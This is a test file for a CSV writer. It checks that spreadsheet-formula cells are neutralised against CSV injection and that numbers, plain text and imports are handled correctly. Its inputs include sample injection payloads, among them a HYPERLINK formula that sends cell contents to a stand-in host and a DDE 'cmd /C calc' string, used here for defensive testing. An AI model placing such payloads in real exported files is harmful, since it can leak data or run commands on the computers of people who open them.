import { describe, expect, it } from 'vitest';
import { csvCell, csvText, spreadsheetCsv } from './spreadsheet-csv.js';

describe('the shared CSV writer', () => {
  it("prefixes with ' every text cell a spreadsheet would run as a formula (OWASP CSV injection)", () => {
    expect(csvCell('=HYPERLINK("http://x.test?"&A1;"Clique")')).toBe(`"'=HYPERLINK(""http://x.test?""&A1;""Clique"")"`);
    expect(csvCell('+55 11 9999')).toBe("'+55 11 9999");
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('-')).toBe("'-");
  });

  it('leaves numbers, negative ones included, and ordinary text alone', () => {
    expect(csvCell(-12)).toBe('-12');
    expect(csvCell('-1.234,56')).toBe('-1.234,56');
    expect(csvCell('-0.5')).toBe('-0.5');
    expect(csvCell('Loja = Centro')).toBe('Loja = Centro');
    expect(csvCell('Mesa; escritório')).toBe('"Mesa; escritório"');
    expect(csvCell(null)).toBe('');
  });

  it('writes ; separated lines after a BOM, and an import reads a neutralised cell back as it was', () => {
    expect(spreadsheetCsv(['a', 'b'], [['=1+1', -5]])).toBe("\uFEFFa;b\n'=1+1;-5\n");
    expect(csvText("'=1+1")).toBe('=1+1');
    expect(csvText("'-abc")).toBe('-abc');
    expect(csvText("'normal")).toBe("'normal");
  });
});
